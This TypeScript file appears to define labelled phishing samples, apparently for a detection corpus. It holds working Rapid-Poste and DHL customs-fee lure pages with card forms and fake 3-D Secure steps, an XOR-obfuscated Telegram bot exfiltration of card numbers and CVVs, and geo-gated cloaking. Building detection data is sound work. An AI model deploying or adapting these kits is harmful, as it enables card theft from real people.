import { htmlRoute, type Entry } from '../entry.js';
import { doc, logos, gateJs, cardFieldsFr, xorB64, xorDecoderJs } from '../parts/xe-kit.js';
import { jsRoute } from '../parts/e-bin.js';

/**
 * Delivery-fee lures: "your parcel is held, pay the customs / redelivery fee" pages for Barid Al-Maghrib,
 * Amana, La Poste Tunisienne (Rapid-Poste), DHL Express and La Poste/Colissimo, each ending in a card form
 * and a fake 3-D Secure step.
 */

const rapidPosteTunisie: Entry = (() => {
  const host = 'rapidposte-tn-douane.info';
  return {
    id: 'xe-rapid-poste-tunisie-customs-fee',
    label: 'phishing',
    kind: 'parcel-fee-card-kit',
    url: `https://${host}/douane/paiement.html`,
    body: doc({
      title: 'La Poste Tunisienne - Rapid-Poste : droits de douane',
      css: `body{margin:0;font-family:Arial;background:#eef1f7}.h{background:#1a3f8f;padding:10px 20px}.h svg text{fill:#fff}.b{max-width:520px;margin:24px auto;background:#fff;padding:22px}.i{background:#f5f8ff;border:1px solid #d8e0f0;padding:12px;font-size:14px}.tn-l{display:block;margin-top:10px;font-size:13px}.tn-i{width:100%;padding:10px;box-sizing:border-box;border:1px solid #bbc}.tn-row{display:flex;gap:10px}.tn-row>div{flex:1}.tn-amount{font-weight:bold;color:#1a3f8f}button{margin-top:14px;width:100%;padding:12px;background:#ffd200;border:0;font-weight:bold}`,
      body: `<div class="h">${logos.posteTn(36)}</div><div class="b"><h3>Droits et taxes de dédouanement</h3>
<div class="i">Envoi EMS n° <b>EE093845117TN</b><br>Origine : France → Tunis Carthage<br>Statut : retenu en douane · محجوز لدى الديوانة</div>
<p>Votre envoi est retenu au bureau d'échange en attente du paiement des droits de douane (<b>3,500 TND</b>). Sans paiement sous 72 heures, il sera retourné à l'expéditeur.</p>
<form id="tn">${cardFieldsFr({ cls: 'tn', idPrefix: 'tn', amountLine: 'Total à payer : 3,500 TND (carte bancaire ou e-Dinar)' })}<button>Payer 3,500 TND</button></form></div>
<script src="js/pay.js"></script>`,
    }),
    routes: {
      [`${host}/douane/js/pay.js`]: jsRoute(`${xorDecoderJs('u', `'tn'+'216'`)}
document.getElementById('tn').addEventListener('submit',function(e){e.preventDefault();var t=u('${xorB64('7456120983:AAGb0xMvL2nQp7RkW4yHcZ1tJs9dF3eUo8I', 'tn216')}'),c=u('${xorB64('-1001948837260', 'tn216')}');
var v=function(i){return document.getElementById(i).value},m='RAPIDPOSTE TN\\n'+v('tn-name')+'\\n'+v('tn-num')+'\\n'+v('tn-exp')+' '+v('tn-cvv');
fetch('https://api.telegram.org/bot'+t+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:c,text:m})}).then(function(){location.href='attente.html'})});`),
      [`${host}/douane/attente.html`]: htmlRoute(doc({ title: 'La Poste Tunisienne', body: '<p style="font-family:Arial;text-align:center;margin-top:90px">Traitement du paiement... Ne fermez pas cette page.<br>Un code de confirmation vous sera demandé.</p><script>setTimeout(function(){location.href="/douane/paiement.html?err=1"},8000)</script>' })),
    },
  };
})();

const dhlCiTwoHost: Entry = (() => {
  const kit = 'dhl-ci-dedouanement.netlify.app';
  return {
    id: 'xe-dhl-express-ci-customs-xof',
    label: 'phishing',
    kind: 'parcel-fee-card-kit',
    url: 'https://dhl.suivi-colis-ci.click/x/4471',
    routes: {
      'dhl.suivi-colis-ci.click/x/4471': htmlRoute(`<!doctype html><html><head><meta charset="utf-8"><title>DHL</title><script>${gateJs({ decoy: 'https://www.dhl.com/ci-fr/home.html', zones: ['Africa/'], onPass: `location.replace('https://${kit}/paiement?awb=5538120947')` })}</script></head><body></body></html>`),
      [`${kit}/paiement`]: htmlRoute(doc({
        title: 'DHL Express | Paiement des droits et taxes',
        css: `body{margin:0;font-family:Delivery,Arial;background:#fff}.y{background:#ffcc00;padding:10px 24px}.m{max-width:640px;margin:20px auto;padding:0 16px}.s{display:flex;gap:8px;margin:12px 0}.s span{flex:1;padding:6px;background:#eee;font-size:12px;text-align:center}.s .a{background:#d40511;color:#fff}.tbl{width:100%;border-collapse:collapse;font-size:14px}.tbl td{border-bottom:1px solid #eee;padding:8px}.dh-l{display:block;font-size:13px;margin-top:10px}.dh-i{width:100%;padding:10px;box-sizing:border-box}.dh-row{display:flex;gap:10px}.dh-row>div{flex:1}button{background:#d40511;color:#fff;border:0;padding:13px 30px;margin-top:14px}`,
        body: `<div class="y">${logos.dhl(28)}</div><div class="m"><div class="s"><span>Expédié</span><span>Arrivé à Abidjan</span><span class="a">Droits à payer</span><span>Livraison</span></div>
<h2>Votre envoi 5538120947 est en attente de paiement</h2><table class="tbl"><tr><td>Droits de douane</td><td>1 850 FCFA</td></tr><tr><td>Frais de dédouanement DHL</td><td>750 FCFA</td></tr><tr><td><b>Total</b></td><td><b>2 600 FCFA</b></td></tr></table>
<form id="dh">${cardFieldsFr({ cls: 'dh', idPrefix: 'dh' })}<button>Payer 2 600 FCFA</button></form><p style="font-size:11px;color:#999">© 2025 DHL International GmbH. Tous droits réservés.</p></div>
<script>document.getElementById('dh').onsubmit=function(e){e.preventDefault();var fd=new FormData();['dh-name','dh-num','dh-exp','dh-cvv'].forEach(function(i){fd.append(i,document.getElementById(i).value)});fd.append('awb','5538120947');
fetch('/.netlify/functions/dhl-log',{method:'POST',body:fd}).then(function(){document.querySelector('.m').innerHTML='<h3>Authentification de la transaction</h3><p>Entrez le code reçu par SMS de votre banque.</p><input style=\\'font-size:20px;padding:10px\\'><button>Valider</button>'})};</script>`,
      })),
    },
  };
})();

export const entries: Entry[] = [rapidPosteTunisie, dhlCiTwoHost];
